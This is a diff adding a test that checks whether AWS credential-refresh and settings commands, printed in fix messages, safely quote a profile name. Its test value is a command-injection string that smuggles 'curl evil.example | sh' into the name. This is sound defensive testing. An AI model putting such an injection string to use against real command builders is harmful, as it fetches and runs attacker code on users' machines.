@@ -13,6 +13,8 @@ import {
   type CommandLine
 } from '../../src/commands/shell.js'
 import { markdownOf } from '../../src/policy/fix-parts.js'
+import { refreshSteps, renewSoonStep } from '../../src/commands/credential-refresh.js'
+import { setTo } from '../../src/commands/settings.js'
 
 /** What bash reads from a rendered line: each word of `printf '%s\0'`'s arguments. */
 function wordsBashReads(rendered: string): string[] {
@@ -130,5 +132,32 @@ describe('commands in fixes', () => {
       'github-actions'
     )
     expect(md).toBe('Run:\n\n```sh\nexport AWS_REGION=eu-west-1\n```')
+  })
+
+  it('every command a fix prints with a profile name quotes a hostile one', () => {
+    const hostile = "dev'; curl evil.example | sh; echo '"
+    const sources = ['profile-sso', 'profile-login', 'profile-process', 'profile-assume-role']
+    for (const source of sources) {
+      const text = `${refreshSteps(source, hostile)}\n${renewSoonStep(source, hostile)}`
+      const lines = text.split('\n').filter((l) => l.startsWith('aws '))
+      expect(lines.length).toBeGreaterThan(0)
+      for (const line of lines) {
+        const words = wordsBashReads(line.replace(/^aws /, ''))
+        expect(words[words.length - 1]).toBe(hostile)
+      }
+    }
+    for (const kind of ['region', 'model', 'profile'] as const) {
+      const said = setTo(kind, hostile, { surface: 'cli', source: 'AWS_PROFILE' })
+      const code = /^`+(.*?)`+$/.exec(said)![1]!.trim()
+      const out = execFileSync(
+        'bash',
+        ['--norc', '-c', `${code}; printf '%s' "$${code.split('=')[0]!.replace('export ', '')}"`],
+        {
+          encoding: 'utf8',
+          env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }
+        }
+      )
+      expect(out).toBe(hostile)
+    }
   })
 })
